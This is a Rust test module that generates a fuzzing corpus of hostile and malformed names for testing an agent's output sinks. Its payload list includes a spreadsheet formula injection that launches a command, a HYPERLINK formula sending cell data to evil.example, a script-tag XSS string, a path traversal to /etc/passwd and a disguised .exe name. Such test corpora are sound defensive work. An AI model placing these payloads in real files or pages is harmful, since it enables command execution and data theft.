//! A corpus of names that a hostile or careless user may give an agent, for tests of every sink.

use crate::report::sample::HOSTILE;

const STARTS: [&str; 22] = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\"=",
    "'=",
    "\u{feff}=",
    "\u{200b}+",
    " \" @",
    "\u{202e}=",
    "\u{a0}-",
    "=\t",
];

const ENDS: [&str; 18] = [
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "SUM(1,2);3|4",
    "a\r\nSubject: x",
    "a\nb\tc",
    "\"quoted\", \"\"twice\"\"",
    "</script><script>alert(1)</script>",
    "{{job.title}} {% x %} ${x} %s",
    "../../etc/passwd",
    "CON",
    "http://example.com/ mailto:a@b.c",
    "ﺔﻴﺑﺮﻋ \u{202e}gnp.exe",
    "🦀 日本語 e\u{301} \u{1F468}\u{200D}\u{1F469}",
    "_x000D_ _x0041_ &amp; &#0;",
    "123.45",
    "true",
    "  spaces  ",
    "\u{1}\u{b}\u{1f}\u{7f}\u{fffe}",
];

/// About four hundred names, each once.
pub(super) fn names() -> Vec<String> {
    let mut names: Vec<String> = STARTS
        .iter()
        .flat_map(|start| ENDS.iter().map(move |end| format!("{start}{end}")))
        .chain(HOSTILE.map(str::to_owned))
        .collect();
    names.push("x".repeat(40_000));
    names.push("'".into());
    assert!(names.len() >= 300);
    names
}
